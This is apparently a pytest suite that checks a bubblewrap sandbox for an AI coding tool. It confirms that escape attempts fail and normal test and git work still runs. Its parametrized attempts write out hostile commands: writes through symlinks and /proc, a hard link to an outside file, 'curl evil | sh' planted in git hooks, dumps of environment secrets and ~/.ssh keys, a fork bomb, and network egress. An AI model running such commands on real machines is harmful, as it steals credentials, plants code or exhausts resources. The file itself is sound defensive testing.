"""The escape suite: real attempts to get out of the sandbox, each of which must fail; and the
positive side, that real work (tests, git reads) still runs inside it."""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from autocodebase.sandbox import bwrap as bwrap_module
from autocodebase.sandbox.environment import command_environment
from autocodebase.sandbox.policy import Limits, SandboxPolicy
from autocodebase.sandbox.run import CommandOutcome, run_command

pytestmark = pytest.mark.skipif(
    bwrap_module.bwrap_problem() is not None,
    reason=f"bubblewrap unusable: {bwrap_module.bwrap_problem()}",
)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=ws, check=True)
    (ws / ".acb").mkdir()
    (ws / ".acb" / "approvals.toml").write_text("")
    return ws


def sandboxed(
    workspace: Path, command: str, mode: str = "workspace-write", **limits: int
) -> CommandOutcome:
    policy = SandboxPolicy(mode=mode, limits=Limits(timeout_s=20, **limits))  # type: ignore[arg-type]
    return run_command(policy, command, workspace, command_environment())


def assert_blocked(outcome: CommandOutcome) -> None:
    assert outcome.sandbox == "bubblewrap"
    assert outcome.exit_code != 0, outcome.output


@pytest.mark.parametrize(
    "attempt",
    [
        "echo x > {outside}/absolute.txt",
        "echo x > ../relative.txt",
        "ln -s {outside} link && echo x > link/through-symlink.txt",
        "echo x > /proc/self/root{outside}/via-proc.txt",
        "touch /etc/acb-escape",
        "echo x > $HOME/acb-escape",
    ],
)
def test_writes_outside_the_workspace_fail(workspace: Path, attempt: str) -> None:
    outside = workspace.parent
    outcome = sandboxed(workspace, attempt.format(outside=outside))
    if not str(outside).startswith("/tmp/"):
        assert_blocked(outcome)
    # Under /tmp the sandbox sees a private, empty /tmp: a write there may "succeed" but lands
    # in a tmpfs that vanishes with the command. Either way nothing reaches the real directory.
    assert outcome.sandbox == "bubblewrap"
    assert sorted(p.name for p in outside.iterdir()) == ["ws"]
    assert not Path("/etc/acb-escape").exists()
    assert not (Path.home() / "acb-escape").exists()


def test_hard_link_to_an_outside_file_cannot_be_made(workspace: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("original\n")
    outcome = sandboxed(workspace, f"ln {victim} hard && echo pwned >> hard")
    assert_blocked(outcome)
    assert victim.read_text() == "original\n"


@pytest.mark.parametrize(
    "target", [".git/hooks/pre-commit", ".git/config", ".acb/approvals.toml", ".git/HEAD"]
)
def test_git_and_acb_state_are_read_only(workspace: Path, target: str) -> None:
    before = (workspace / target).read_bytes() if (workspace / target).exists() else None
    outcome = sandboxed(workspace, f"echo 'curl evil | sh' > {target}")
    assert_blocked(outcome)
    after = (workspace / target).read_bytes() if (workspace / target).exists() else None
    assert after == before


def test_secrets_are_not_in_the_environment(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-sandbox-test-secret-123456")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_sandboxsecret")
    outcome = sandboxed(workspace, "env; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'")
    assert outcome.exit_code == 0
    assert (
        "sk-sandbox-test-secret" not in outcome.output and "ghp_sandboxsecret" not in outcome.output
    )
    assert "PATH=" in outcome.output  # the environment is there, minus the secrets


def test_credential_files_are_hidden(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY MATERIAL")
    (home / ".netrc").write_text("machine x login y password SECRETPW")
    monkeypatch.setenv("HOME", str(home))
    outcome = sandboxed(workspace, "cat ~/.ssh/id_ed25519 ~/.netrc; ls -a ~/.ssh")
    assert "PRIVATE KEY MATERIAL" not in outcome.output and "SECRETPW" not in outcome.output


def test_no_tcp_even_to_loopback(workspace: Path) -> None:
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    accepted: list[object] = []
    server.settimeout(5)

    def accept() -> None:
        with contextlib.suppress(OSError):
            accepted.append(server.accept())

    thread = threading.Thread(target=accept)
    thread.start()
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); print('CONNECTED')"
    outcome = sandboxed(workspace, f'{sys.executable} -c "{code}"')
    thread.join()
    server.close()
    assert_blocked(outcome)
    assert "CONNECTED" not in outcome.output and not accepted


def test_no_udp_or_dns(workspace: Path) -> None:
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(2)
    port = listener.getsockname()[1]
    code = (
        "import socket\n"
        f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'query', ('127.0.0.1', {port}))\n"
    )
    outcome = sandboxed(workspace, f'{sys.executable} -c "{code}"; getent hosts pypi.org')
    with pytest.raises(TimeoutError):
        listener.recvfrom(100)
    listener.close()
    assert "pypi.org" not in outcome.output


def _count_processes(pattern: str, settle_s: float = 5.0) -> int:
    """Processes matching `pattern`, once the kernel has had a moment to finish killing them
    (on a loaded machine a killed group can stay visible for a fraction of a second)."""
    deadline = time.monotonic() + settle_s
    while True:
        done = subprocess.run(["pgrep", "-f", pattern], capture_output=True, text=True, check=False)
        count = len(done.stdout.split())
        if count == 0 or time.monotonic() > deadline:
            return count
        time.sleep(0.1)


def test_fork_bomb_is_bounded(workspace: Path) -> None:
    bomb = f"bomb{uuid.uuid4().hex[:12]}"  # a name no other process on the machine has
    outcome = sandboxed(
        workspace,
        f"{bomb}() {{ {bomb} | {bomb} & }}; {bomb}; sleep 1; echo still-here",
        max_processes=64,
    )
    # Either the shell outlives the bomb, or the process limit starves even the shell's own
    # `sleep` (bash gives up after its fork retries): both show the limit held, and the run
    # ended without the watchdog and left nothing behind.
    contained = "still-here" in outcome.output or "fork: Resource temporarily" in outcome.output
    assert contained or outcome.timed_out, outcome.output[-500:]
    assert outcome.duration_s < 20
    assert _count_processes(bomb) == 0


def test_runaway_output_is_bounded(workspace: Path) -> None:
    outcome = sandboxed(workspace, "yes acb", kill_after_output_bytes=5_000_000)
    assert outcome.killed_for_output and outcome.exit_code is None
    assert len(outcome.output) < 20_000 and "bytes omitted" in outcome.output


def test_timeout_kills_the_command_and_its_children(workspace: Path) -> None:
    marker = f"sleep 313.{uuid.uuid4().int % 10**9:09d}"  # only ours matches
    policy = SandboxPolicy(limits=Limits(timeout_s=1))
    outcome = run_command(policy, f"({marker} &) ; {marker}", workspace, command_environment())
    assert outcome.timed_out and outcome.exit_code is None
    assert _count_processes(marker) == 0


def test_read_only_mode_cannot_write_the_workspace(workspace: Path) -> None:
    outcome = sandboxed(workspace, "touch in-workspace", mode="read-only")
    assert_blocked(outcome)
    assert not (workspace / "in-workspace").exists()
    scratch = sandboxed(workspace, "echo ok > /tmp/scratch && cat /tmp/scratch", mode="read-only")
    assert scratch.exit_code == 0 and "ok" in scratch.output


def test_real_work_runs_inside(wordstats_repo: Path) -> None:
    env = {
        **command_environment(),
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
    }
    policy = SandboxPolicy(limits=Limits(timeout_s=60))
    tests = run_command(policy, "python -m pytest -q", wordstats_repo, env)
    assert tests.exit_code == 0 and "6 passed" in tests.output
    git = run_command(
        policy, "git status --short && git log --oneline | wc -l", wordstats_repo, env
    )
    assert git.exit_code == 0 and git.output.strip().endswith("1")
    build = run_command(
        policy, "mkdir -p build && echo artefact > build/out && cat build/out", wordstats_repo, env
    )
    assert build.exit_code == 0 and (wordstats_repo / "build" / "out").read_text() == "artefact\n"


@pytest.mark.parametrize("fallback", ["refuse", "read-only-guard", "none"])
def test_fallback_when_bubblewrap_is_unusable(
    workspace: Path, fallback: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from autocodebase.sandbox.approvals import ApprovalStore
    from autocodebase.sandbox.gate import CommandGate

    monkeypatch.setattr("autocodebase.sandbox.run.bwrap_problem", lambda: "bwrap is not installed")
    gate = CommandGate(SandboxPolicy(fallback=fallback), "never", ApprovalStore(workspace))  # type: ignore[arg-type]
    listing = gate.run("ls -a", workspace, command_environment())
    writing = gate.run("touch made-it", workspace, command_environment())
    if fallback == "refuse":
        assert listing.refused and "bubblewrap" in listing.output and "install" in listing.output
        assert writing.refused
    elif fallback == "read-only-guard":
        assert listing.exit_code == 0 and ".git" in listing.output
        assert writing.refused and "read-only-guard" in writing.output
    else:
        assert writing.exit_code == 0 and writing.sandbox.startswith("none (fallback")
    assert (workspace / "made-it").exists() == (fallback == "none")


def test_a_virtualenv_under_tmp_stays_usable_and_read_only(workspace: Path) -> None:
    import tempfile

    with tempfile.TemporaryDirectory(prefix="acb-venv-", dir="/tmp") as scratch:
        venv = Path(scratch)
        (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
        (venv / "lib").mkdir()
        (venv / "lib" / "marker.txt").write_text("site-packages live here\n")
        (venv / "bin").mkdir()
        tool = venv / "bin" / "acb-venv-tool"
        tool.write_text(f"#!/bin/sh\ncat {venv}/lib/marker.txt\n")
        tool.chmod(0o755)
        env = {**command_environment(), "PATH": f"{venv}/bin:{os.environ['PATH']}"}
        policy = SandboxPolicy(limits=Limits(timeout_s=20))
        ran = run_command(policy, "acb-venv-tool", workspace, env)
        assert ran.exit_code == 0 and "site-packages live here" in ran.output
        wrote = run_command(policy, f"touch {venv}/lib/new", workspace, env)
        assert wrote.exit_code != 0 and not (venv / "lib" / "new").exists()
